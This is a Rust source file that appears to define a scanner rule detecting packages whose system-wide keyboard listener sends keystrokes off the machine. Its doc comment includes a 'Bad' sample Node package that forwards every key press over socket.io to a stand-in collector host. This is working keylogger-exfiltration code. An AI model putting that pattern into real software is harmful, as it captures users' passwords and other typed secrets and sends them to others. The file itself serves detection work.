//! # Keys that a person presses leave the machine
//!
//! What a system-wide listener to the keyboard hears reaches a host.
//!
//! ## Why it matters
//!
//! A key logger reads every password, whatever stores it.
//!
//! ## Known benign uses
//!
//! Hot-key libraries listen and compare. They send nothing.
//!
//! ## Bad
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "main": "index.js"}
//! == index.js
//! const { GlobalKeyboardListener } = require("node-global-key-listener");
//! const socket = require("socket.io-client")("http://collector.invalid:5000");
//! new GlobalKeyboardListener().addListener((event) => {
//!   socket.emit("key", event.name); //~ here
//! });
//! ```
//!
//! ## Good
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "main": "index.js"}
//! == index.js
//! const { GlobalKeyboardListener } = require("node-global-key-listener");
//! exports.onHotKey = (name, act) => new GlobalKeyboardListener().addListener((event) => event.name === name && act());
//! ```
//!
//! ## References
//!
//! - Socket: HexEval (June 2025)

use crate::prelude::*;

/// Keys that a person presses leave the machine.
pub struct KeystrokesSent;

impl Rule for KeystrokesSent {
    fn meta(&self) -> &'static RuleMeta {
        &RuleMeta {
            id: "keystrokes-sent",
            title: "Keys that a person presses leave the machine",
            tier: Tier::Source,
            role: Role::Threat,
            severity: Level::High,
            specificity: Level::High,
            technique: "T1056.001",
            covers: &["collect-keylog"],
            status: RuleStatus::Stable,
            since: "0.1.0",
        }
    }

    fn check(&self, facts: &Facts<'_>, found: &mut Found<'_>) {
        for flow in facts.flows(|source| *source == Source::Keystrokes, Sink::leaves_machine) {
            if flow.trigger.runs_unasked() || flow.trigger != Trigger::Dormant && flow.sink.host().is_some() {
                found.flow(flow);
            }
        }
    }
}
